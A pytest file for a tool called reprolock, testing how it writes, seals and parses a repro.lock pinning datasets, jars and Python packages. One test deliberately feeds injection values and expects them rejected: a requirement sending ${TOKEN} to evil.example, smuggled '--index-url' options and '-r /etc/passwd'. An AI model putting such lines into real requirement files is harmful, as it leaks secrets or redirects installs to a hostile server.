"""repro.lock: the same bytes every time, read back equal, and refused with a sentence where it was changed."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest
import tomlkit

from reprolock.errors import LockError
from reprolock.files.lock_file import lock_bytes, parse_lock
from reprolock.model.lock import DatasetPin, EnvironmentPin, JarPin, JarsPin, Lock, PackagePin

DATASET = DatasetPin.sealed(
    name="train",
    kind="lakefs",
    uri="lakefs://example-repo/main/training data/[1]/é.csv",
    commit="6aa6b3436f5b" + "0" * 52,
    time=datetime(2026, 11, 22, 17, 30, tzinfo=UTC),
    resolved="lakefs://example-repo/6aa6b3436f5b" + "0" * 52 + "/training data/[1]/é.csv",
    objects=3,
    bytes=7_900_000,
    digest="lakefs-etag-1:" + "ab" * 32,
)
OTHER = DatasetPin.sealed(**{**DATASET.model_dump(exclude={"seal"}), "name": "a"})
JARS = JarsPin.sealed(
    packages=("io.delta:delta-spark_4.2_2.13:4.4.0",),
    spark="4.2.0",
    jar=(
        JarPin(coordinate="io.delta:delta-spark_4.2_2.13:4.4.0", sha256="cd" * 32, bytes=12),
        JarPin(coordinate="org.antlr:antlr4-runtime:4.13.1", sha256="ef" * 32, bytes=34),
    ),
)
LOCK = Lock(dataset=(OTHER, DATASET), jars=JARS)

EXPECTED = f"""\
# This file is written by reprolock; commit it, and do not edit it by hand.
version = 1

[[dataset]]
name = "a"
kind = "lakefs"
uri = "lakefs://example-repo/main/training data/[1]/é.csv"
commit = "{DATASET.commit}"
time = 2026-11-22T17:30:00Z
resolved = "{DATASET.resolved}"
objects = 3
bytes = 7900000
digest = "{DATASET.digest}"
seal = "{OTHER.seal}"

[[dataset]]
name = "train"
kind = "lakefs"
uri = "lakefs://example-repo/main/training data/[1]/é.csv"
commit = "{DATASET.commit}"
time = 2026-11-22T17:30:00Z
resolved = "{DATASET.resolved}"
objects = 3
bytes = 7900000
digest = "{DATASET.digest}"
seal = "{DATASET.seal}"

[jars]
packages = ["io.delta:delta-spark_4.2_2.13:4.4.0"]
spark = "4.2.0"
seal = "{JARS.seal}"

[[jar]]
coordinate = "io.delta:delta-spark_4.2_2.13:4.4.0"
sha256 = "{"cd" * 32}"
bytes = 12

[[jar]]
coordinate = "org.antlr:antlr4-runtime:4.13.1"
sha256 = "{"ef" * 32}"
bytes = 34
"""


@pytest.mark.parametrize(
    ("field", "value", "said"),
    [
        (
            "requirements",
            ["six @ https://evil.example/${TOKEN}/six.whl"],
            "requirements.0: it would be more than one line",
        ),
        ("requirements", ["six\n--index-url https://evil.example"], "requirements.0: it would be more than one line"),
        ("marker", "python_version > '3'\n-r /etc/passwd", "package.0.marker: it would be more than one line"),
        ("marker", "python_version > '3' \\", "package.0.marker: it would be more than one line"),
        ("version", "1.0\n--index-url https://evil.example", "package.0.version: "),
        ("version", "1.0 --index-url", "package.0.version: "),
    ],
)
def test_a_pin_that_is_more_than_a_line_of_requirements(field: str, value: object, said: str) -> None:
    """uv is handed these lines by `run --dry-run` and `replay --dry-run` too: what else stands in one would be an option, or
    would send a variable of the environment to any server."""
    good = {"name": "six", "version": "1.0", "hashes": ["ab" * 32], "marker": "python_version > '3'"}
    pin = EnvironmentPin.sealed(
        requirements=("six",), python="3.11", package=(PackagePin(**{**good, "hashes": ("ab" * 32,)}),)
    )
    document = tomlkit.parse(lock_bytes(Lock(environment=pin)).decode())
    assert parse_lock(tomlkit.dumps(document).encode()).environment == pin
    table = document["environment"] if field == "requirements" else document["package"][0]
    table[field] = value
    with pytest.raises(LockError) as caught:
        parse_lock(tomlkit.dumps(document).encode())
    assert caught.value.message.startswith(f"repro.lock was edited: environment.{said}")


def test_the_bytes() -> None:
    assert lock_bytes(LOCK).decode() == EXPECTED


def test_the_order_of_pins_does_not_matter() -> None:
    assert lock_bytes(Lock(dataset=(DATASET, OTHER), jars=JARS)) == lock_bytes(LOCK)


def test_it_reads_back_equal() -> None:
    assert parse_lock(lock_bytes(LOCK)) == LOCK
    assert all(pin.intact for pin in (*LOCK.dataset, LOCK.jars))


def test_an_edited_pin_breaks_its_seal_and_no_other() -> None:
    edited = parse_lock(lock_bytes(LOCK).replace(b"objects = 3", b"objects = 4", 1))
    assert [pin.intact for pin in edited.dataset] == [False, True]


def test_a_jar_merged_in_breaks_the_seal() -> None:
    merged = lock_bytes(LOCK) + b'\n[[jar]]\ncoordinate = "a:b:1"\nsha256 = "' + b"00" * 32 + b'"\nbytes = 1\n'
    assert not parse_lock(merged).jars.intact


RESTORE = "restore it with `git checkout repro.lock`, or remove it and run `reprolock lock` to pin everything again"


@pytest.mark.parametrize(
    ("data", "message", "hint"),
    [
        (b"version = 2\n", "repro.lock has version 2, and this reprolock reads up to version 1", "use the reprolock that wrote it, or a newer one"),
        (b"version = 1\n<<<<<<< HEAD\na\n=======\n>>>>>>> x\n", "repro.lock has git's conflict markers", "run `reprolock lock`, which merges both sides, and commit the result"),
        (b"version = \n", "repro.lock is not valid TOML: invalid value (at line 1, column 11)", RESTORE),
        (b"version = 1\nowner = 3\n", "repro.lock was edited: owner: extra inputs are not permitted", RESTORE),
        (lock_bytes(LOCK).replace(b'resolved = "lakefs://example-repo/6', b'resolved = "lakefs://example-repo/7', 1), "repro.lock was edited: dataset.0: resolved is not the declared address at the commit", RESTORE),
        (lock_bytes(LOCK).replace(b'name = "a"', b'name = "train"'), 'repro.lock was edited: the file: dataset "train" is pinned twice', RESTORE),
    ],
)  # fmt: skip
def test_what_cannot_be_taken(data: bytes, message: str, hint: str) -> None:
    with pytest.raises(LockError) as error:
        parse_lock(data)
    assert (error.value.message, error.value.hint, error.value.exit_code) == (message, hint, 3)


def test_another_file_that_is_no_lock() -> None:
    for data, message in (
        (b'[project]\nname = "x"\n', "repro.toml has no version, which every lock must have"),
        (b"version = \n", "repro.toml is not valid TOML: invalid value (at line 1, column 11)"),
        (b"<<<<<<< HEAD\na\n=======\n>>>>>>> x\n", "repro.toml has git's conflict markers"),
    ):
        with pytest.raises(LockError) as error:
            parse_lock(data, "repro.toml")
        assert (error.value.message, error.value.hint) == (
            message,
            "name a lock file as reprolock wrote it in place of repro.toml",
        )
